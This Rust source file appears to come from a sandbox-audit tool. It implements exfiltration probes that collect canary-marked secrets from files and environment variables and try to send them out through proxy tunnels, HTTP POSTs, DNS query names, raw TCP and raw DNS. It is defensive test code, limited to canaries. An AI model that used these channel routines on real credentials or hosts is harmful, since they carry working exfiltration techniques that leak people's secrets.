//! Exfiltration attacks for `oajail audit`: gather every canary the command
//! can read (files named on the command line, the environment), then push
//! them out through ONE channel. Unlike every other probe action, these
//! deliberately carry canary bytes: the lab then sees them in a sink, in a
//! DNS query name or in the command's own stdout, which is exactly what the
//! audit counts as an exfiltration. The verdict line itself never holds a
//! canary; only the channel does.
//!
//! `exfil CHANNEL TARGET SOURCE…` where CHANNEL is `stdout` (TARGET `-`),
//! `https` (CONNECT TARGET:443 through the proxy, a ClientHello with SNI
//! TARGET, then the loot), `http` (a POST to `http://TARGET/` through the
//! proxy), `dns-name` (CONNECT `<canary>.TARGET:443`: the proxy must not
//! resolve what it will refuse), `tcp` (straight to IP TARGET port 443) or
//! `dns` (a raw query `<canary>.exfil.test` to resolver IP TARGET); SOURCE is
//! a file path or `env` (every environment value holding a canary).

use crate::net::dns_query_packet;
use crate::proxy::{client_hello, proxy_addr};
use crate::report::{CANARY_MARKER, Outcome, io_errno};
use nix::errno::Errno;
use std::io::{Read, Write};
use std::net::{TcpStream, UdpSocket};
use std::time::Duration;

/// Errnos that mean "the jail stopped the connection".
const NET_DENIED: &[Errno] = &[
    Errno::EPERM,
    Errno::EACCES,
    Errno::ENETUNREACH,
    Errno::EHOSTUNREACH,
    Errno::ECONNREFUSED,
    Errno::EAFNOSUPPORT,
    Errno::ENOSYS,
];

/// Every canary the command can read from `sources`, and how many sources were readable.
fn loot(sources: &[String]) -> (Vec<u8>, usize) {
    let mut out = Vec::new();
    let mut readable = 0;
    for src in sources {
        let bytes = if src == "env" {
            std::env::vars_os()
                .filter_map(|(_, v)| v.into_string().ok())
                .filter(|v| v.contains("OAJ-CANARY-"))
                .collect::<Vec<_>>()
                .join("\n")
                .into_bytes()
        } else {
            std::fs::read(src).unwrap_or_default()
        };
        if has_marker(&bytes) {
            readable += 1;
            out.extend_from_slice(&bytes);
            out.push(b'\n');
        }
    }
    (out, readable)
}

fn has_marker(bytes: &[u8]) -> bool {
    bytes
        .windows(CANARY_MARKER.len())
        .any(|w| w == CANARY_MARKER)
}

/// The first canary in `loot`, as a DNS label (`oaj-canary-<token>-<slug>`).
fn first_canary_label(loot: &[u8]) -> String {
    let text = String::from_utf8_lossy(loot);
    let start = text.find("OAJ-CANARY-").unwrap_or(0);
    text[start..]
        .chars()
        .take_while(|c| c.is_ascii_alphanumeric() || *c == '-')
        .take(63)
        .collect::<String>()
        .to_ascii_lowercase()
}

/// `exfil CHANNEL TARGET SOURCE…`.
pub fn exfil(attack: &str, params: &[String]) -> Outcome {
    let (channel, target, sources) = match params {
        [c, t, rest @ ..] if !rest.is_empty() => (c.as_str(), t.as_str(), rest),
        _ => return Outcome::unexpected(attack, None, "usage: exfil CHANNEL TARGET SOURCE…"),
    };
    let (loot, readable) = loot(sources);
    if readable == 0 {
        return Outcome::blocked_plain(attack, "no secret was readable");
    }
    let what = format!("{readable} secret source(s) read");
    match channel {
        "stdout" => {
            let mut out = std::io::stdout().lock();
            let _ = out.write_all(&loot);
            let _ = out.flush();
            Outcome::succeeded(attack, format!("{what}, printed on stdout"))
        }
        "https" => through_proxy(attack, &what, target, &loot, true),
        "http" => through_proxy(attack, &what, target, &loot, false),
        "dns-name" => {
            let name = format!("{}.{target}", first_canary_label(&loot));
            through_proxy(attack, &what, &name, b"", true)
        }
        "tcp" => direct_tcp(attack, &what, target, &loot),
        "dns" => direct_dns(attack, &what, target, &loot),
        other => Outcome::unexpected(attack, None, format!("unknown channel {other}")),
    }
}

fn through_proxy(attack: &str, what: &str, host: &str, loot: &[u8], tls: bool) -> Outcome {
    let addr = proxy_addr();
    let mut s = match TcpStream::connect(&addr) {
        Ok(s) => s,
        Err(e) => {
            return Outcome::failed(attack, &format!("connect proxy {addr}"), io_errno(&e), &[]);
        }
    };
    let _ = s.set_read_timeout(Some(Duration::from_secs(3)));
    let head = if tls {
        format!("CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\n\r\n")
    } else {
        format!(
            "POST http://{host}/ HTTP/1.1\r\nHost: {host}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
            loot.len()
        )
    };
    if let Err(e) = s.write_all(head.as_bytes()) {
        return Outcome::unexpected(attack, Some(io_errno(&e)), "write request");
    }
    if tls {
        let status = read_status(&mut s);
        if !status.contains(" 200") {
            return Outcome::blocked_plain(attack, format!("proxy answered: {status}"));
        }
        let mut payload = client_hello(Some(host));
        payload.extend_from_slice(loot);
        if let Err(e) = s.write_all(&payload) {
            return Outcome::blocked_plain(attack, format!("tunnel closed: {e}"));
        }
        // Give the sink a moment to read before the connection drops (it
        // acknowledges only what it can parse, so do not wait long).
        let _ = s.set_read_timeout(Some(Duration::from_millis(500)));
        let _ = read_status(&mut s);
        return Outcome::succeeded(attack, format!("{what}, sent through a tunnel to {host}"));
    }
    let _ = s.write_all(loot);
    let status = read_status(&mut s);
    if status.contains(" 403") || status.contains(" 407") || status.is_empty() {
        return Outcome::blocked_plain(attack, format!("proxy answered: {status}"));
    }
    Outcome::succeeded(attack, format!("{what}, posted to {host}: {status}"))
}

/// The first line of the answer (empty on EOF or timeout).
fn read_status(s: &mut TcpStream) -> String {
    let mut buf = [0u8; 1024];
    let n = s.read(&mut buf).unwrap_or(0);
    let text = String::from_utf8_lossy(&buf[..n]);
    text.lines().next().unwrap_or("").trim().to_owned()
}

fn direct_tcp(attack: &str, what: &str, ip: &str, loot: &[u8]) -> Outcome {
    let Ok(ip) = ip.parse::<std::net::IpAddr>() else {
        return Outcome::unexpected(attack, None, format!("bad address {ip}"));
    };
    let sa = std::net::SocketAddr::new(ip, 443);
    match TcpStream::connect_timeout(&sa, Duration::from_secs(2)) {
        Ok(mut s) => {
            let _ = s.write_all(loot);
            Outcome::succeeded(attack, format!("{what}, sent to {sa}"))
        }
        Err(e) => Outcome::failed(attack, "connect", io_errno(&e), NET_DENIED),
    }
}

fn direct_dns(attack: &str, what: &str, server: &str, loot: &[u8]) -> Outcome {
    let Ok(ip) = server.parse::<std::net::IpAddr>() else {
        return Outcome::unexpected(attack, None, format!("bad address {server}"));
    };
    let sock = match UdpSocket::bind("0.0.0.0:0") {
        Ok(s) => s,
        Err(e) => return Outcome::failed(attack, "socket", io_errno(&e), NET_DENIED),
    };
    let name = format!("{}.exfil.test", first_canary_label(loot));
    match sock.send_to(&dns_query_packet(0x4f42, &name), (ip, 53)) {
        Ok(_) => Outcome::succeeded(attack, format!("{what}, query sent to {server}")),
        Err(e) => Outcome::failed(attack, "sendto", io_errno(&e), NET_DENIED),
    }
}
